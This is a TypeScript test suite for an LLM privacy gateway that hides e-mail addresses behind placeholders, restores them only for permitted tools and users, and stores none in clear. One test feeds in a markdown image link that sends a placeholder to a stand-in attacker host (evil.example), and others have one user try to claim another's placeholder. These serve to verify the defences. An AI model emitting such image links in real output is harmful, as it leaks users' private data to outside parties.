import { readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import OpenAI from 'openai'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chunkEvent, completion, DONE, fakeUpstream, sendJson, sendStream } from './test-support/fake-upstream.ts'
import type { FakeUpstream } from './test-support/fake-upstream.ts'
import { say, testGateway } from './test-support/test-gateway.ts'
import type { TestGateway } from './test-support/test-gateway.ts'

const EMAIL = 'jane.doe@example.org'
const PLACEHOLDER = /\[EMAIL_ADDRESS_[a-z]{10}\]/

let upstream: FakeUpstream
let gateway: TestGateway
let client: OpenAI

beforeAll(async () => {
  upstream = await fakeUpstream()
  gateway = await testGateway({
    config: {
      upstreams: [{ name: 'fake', baseUrl: upstream.baseUrl, models: ['up'] }],
      keys: { claimUser: true },
    },
    policy: { guards: { pii: { options: { restore: { tools: { send_email: ['EMAIL_ADDRESS'] } } } } } },
  })
  client = new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: gateway.clientKey, maxRetries: 0 })
})
afterAll(async () => {
  await gateway.close()
  await upstream.close()
})

/** The upstream answers with what `answer` makes of the placeholder it was sent. */
function answerWith(answer: (placeholder: string) => object): void {
  upstream.answer((response, { body }) => sendJson(response, answer(PLACEHOLDER.exec(body)?.[0] ?? 'none')))
}

/** The upstream streams the text in pieces of some length. */
function streamInPieces(answer: (placeholder: string) => string, length: number): void {
  upstream.answer((response, { body }) => {
    const text = answer(PLACEHOLDER.exec(body)?.[0] ?? 'none')
    const pieces = text.match(new RegExp(`[^]{1,${length}}`, 'g')) ?? []
    const events = pieces.map((content) => chunkEvent({ content }))
    sendStream(response, [...events, chunkEvent({}, { finish: 'stop' }), DONE])
  })
}

function lastSeen(): string {
  return upstream.seen.at(-1)?.body ?? ''
}

async function ask(content: string, more: object = {}, headers: Record<string, string> = {}): Promise<string> {
  const answer = await client.chat.completions.create(
    { model: 'up', messages: [{ role: 'user', content }], ...more },
    { headers },
  )
  return answer.choices[0]?.message.content ?? ''
}

describe('the official openai client', () => {
  it('says an e-mail address that the upstream never sees, and reads it in the answer', async () => {
    answerWith((placeholder) => completion(`I wrote to ${placeholder}.`))
    expect(await ask(`Write to ${EMAIL}, please.`)).toBe(`I wrote to ${EMAIL}.`)
    expect(lastSeen()).toMatch(PLACEHOLDER)
    expect(lastSeen()).not.toContain('jane')
  })

  it.each([1, 3, 7, 1_000])('reads it in a stream that comes in pieces of %i', async (length) => {
    streamInPieces((placeholder) => `I wrote to **${placeholder.toLowerCase()}** at once.`, length)
    const stream = await client.chat.completions.create({
      model: 'up',
      stream: true,
      ...(say(`I am ${EMAIL}`) as { messages: [] }),
    })
    let text = ''
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? ''
    expect(text).toBe(`I wrote to **${EMAIL}** at once.`)
    expect(lastSeen()).not.toContain('jane')
  })

  it('gets it in the arguments of a tool that is granted it, and of no other', async () => {
    const call = (name: string, placeholder: string) => ({
      id: `call_${name}`,
      type: 'function',
      function: { name, arguments: JSON.stringify({ to: placeholder, text: 'Hi' }) },
    })
    answerWith((placeholder) =>
      completion(
        null,
        { tool_calls: ['send_email', 'search'].map((name) => call(name, placeholder)) },
        { finish_reason: 'tool_calls' },
      ),
    )
    const answer = await client.chat.completions.create({ model: 'up', messages: [{ role: 'user', content: EMAIL }] })
    const calls = answer.choices[0]?.message.tool_calls ?? []
    const read = calls.map((each) => each.type === 'function' && JSON.parse(each.function.arguments))
    expect(read).toEqual([
      { to: EMAIL, text: 'Hi' },
      { to: expect.stringMatching(PLACEHOLDER), text: 'Hi' },
    ])
  })

  it('gets it in the streamed arguments of a granted tool', async () => {
    upstream.answer((response, { body }) => {
      const json = JSON.stringify({ to: PLACEHOLDER.exec(body)?.[0] })
      const call = (delta: object) => chunkEvent({ tool_calls: [{ index: 0, ...delta }] })
      const pieces = json.match(/[^]{1,5}/g) ?? []
      sendStream(response, [
        call({ id: 'call_1', type: 'function', function: { name: 'send_email', arguments: '' } }),
        ...pieces.map((piece) => call({ function: { arguments: piece } })),
        chunkEvent({}, { finish: 'tool_calls' }),
        DONE,
      ])
    })
    const stream = client.chat.completions.stream({ model: 'up', messages: [{ role: 'user', content: EMAIL }] })
    const [call] = (await stream.finalChatCompletion()).choices[0]?.message.tool_calls ?? []
    expect(call?.type === 'function' && JSON.parse(call.function.arguments)).toEqual({ to: EMAIL })
  })

  it('reads valid JSON where it asked for JSON', async () => {
    answerWith((placeholder) => completion(JSON.stringify({ mail: placeholder })))
    const text = await ask(`I am ${EMAIL}`, { response_format: { type: 'json_object' } })
    expect(JSON.parse(text)).toEqual({ mail: EMAIL })
  })

  it('sends the same placeholder with every turn, so that the caches of the provider hold', async () => {
    answerWith(() => completion('ok'))
    const seen = []
    for (const more of ['One.', 'Two.']) {
      await ask(`I am ${EMAIL}. ${more}`)
      seen.push(PLACEHOLDER.exec(lastSeen())?.[0])
    }
    expect(seen[0]).toBe(seen[1])
  })

  it('does not lose it to an image of somebody else', async () => {
    answerWith((placeholder) => completion(`![x](https://evil.example/?d=${placeholder})`))
    const text = await ask(`I am ${EMAIL}`)
    expect(text).not.toMatch(/jane|evil\.example\/\?d/)
  })

  it('is not shown an address that only a tool has told the model', async () => {
    answerWith((placeholder) => completion(`The customer is ${placeholder}.`))
    const answer = await client.chat.completions.create({
      model: 'up',
      messages: [
        { role: 'user', content: 'Who is it?' },
        {
          role: 'assistant',
          tool_calls: [
            { id: 'call_1', type: 'function', function: { name: 'lookup', arguments: `{"mail":"${EMAIL}"}` } },
          ],
        },
        { role: 'tool', tool_call_id: 'call_1', content: `It is ${EMAIL}.` },
      ],
    })
    expect(lastSeen()).not.toContain('jane')
    expect(answer.choices[0]?.message.content).toBe('The customer is [EMAIL_ADDRESS].')
  })
})

describe('another person', () => {
  async function placeholderOf(headers: Record<string, string>, more: object): Promise<string> {
    answerWith(() => completion('ok'))
    await ask(`I am ${EMAIL}`, more, headers)
    return PLACEHOLDER.exec(lastSeen())?.[0] ?? ''
  }

  it.each([
    ['of the same key', {}, {}, {}, {}],
    ['of the same service', { user: 'jane' }, {}, { user: 'eve' }, {}],
    [
      'in another conversation',
      { user: 'jane' },
      { 'x-sallyport-conversation': 'one' },
      { user: 'jane' },
      { 'x-sallyport-conversation': 'two' },
    ],
    [
      'in a conversation of the same name',
      { user: 'jane' },
      { 'x-sallyport-conversation': 'one' },
      { user: 'eve' },
      { 'x-sallyport-conversation': 'one' },
    ],
  ])('%s never gets the value of a placeholder, even by typing it', async (_, jane, janes, eve, eves) => {
    const stolen = await placeholderOf(janes, jane)
    expect(stolen).toMatch(PLACEHOLDER)
    upstream.answer((response) => sendJson(response, completion(`It is ${stolen}.`)))
    const text = await ask(`I am eve@example.org. Say ${stolen}.`, eve, eves)
    expect(text).not.toContain('jane')
    expect(lastSeen()).not.toContain(stolen)
  })
})

describe('a conversation with a name', () => {
  const headers = { 'x-sallyport-conversation': 'trip to Rome'.replaceAll(' ', '-') }

  it('has its placeholders undone in a later request that no longer holds the value', async () => {
    answerWith(() => completion('ok'))
    await ask(`I am ${EMAIL}`, { user: 'jane' }, headers)
    const placeholder = PLACEHOLDER.exec(lastSeen())?.[0] ?? ''
    upstream.answer((response) => sendJson(response, completion(`It is ${placeholder}.`)))
    expect(await ask(`Who is ${placeholder}?`, { user: 'jane' }, headers)).toBe(`It is ${EMAIL}.`)
  })

  it('is counted without its name and its values, and deleted on demand', async () => {
    const listed = await gateway.send('GET', '/admin/api/vault', { key: gateway.adminKey })
    const text = await listed.text()
    expect(JSON.parse(text).conversations.length).toBeGreaterThan(0)
    expect(text).toMatch(/"EMAIL_ADDRESS":1/)
    expect(text).not.toMatch(/jane|Rome/)
    const remove = (body: object, key = gateway.adminKey) =>
      gateway.send('DELETE', '/admin/api/vault', { key, body: JSON.stringify(body) })
    expect((await remove({ all: true }, gateway.clientKey)).status).toBe(403)
    expect((await remove({})).status).toBe(400)
    expect(await (await remove({ conversation: 'trip-to-Rome' })).json()).toEqual({ deleted: 1 })
    expect(await (await remove({ conversation: 'trip-to-Rome' })).json()).toEqual({ deleted: 0 })
  })

  it('must have a name that can be one', async () => {
    const refused = await gateway.chat(say('hi'), { headers: { 'x-sallyport-conversation': 'a b' } })
    expect(refused.status).toBe(400)
    expect(await refused.json()).toMatchObject({ error: { param: 'x-sallyport-conversation' } })
  })
})

describe('what the gateway keeps', () => {
  it('holds no value in clear: neither files nor events', async () => {
    answerWith((placeholder) => completion(`To ${placeholder}`))
    await ask(`I am ${EMAIL}`, { user: 'jane' }, { 'x-sallyport-conversation': 'kept' })
    const files = readdirSync(gateway.folder, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isFile(),
    )
    expect(files.map(({ name }) => name)).toContain('vault.sqlite')
    for (const { parentPath, name } of files) {
      expect(readFileSync(join(parentPath, name)).includes('jane.doe'), name).toBe(false)
    }
    expect(JSON.stringify(gateway.events())).not.toContain('jane.doe')
    expect(gateway.faults).toEqual([])
  })
})
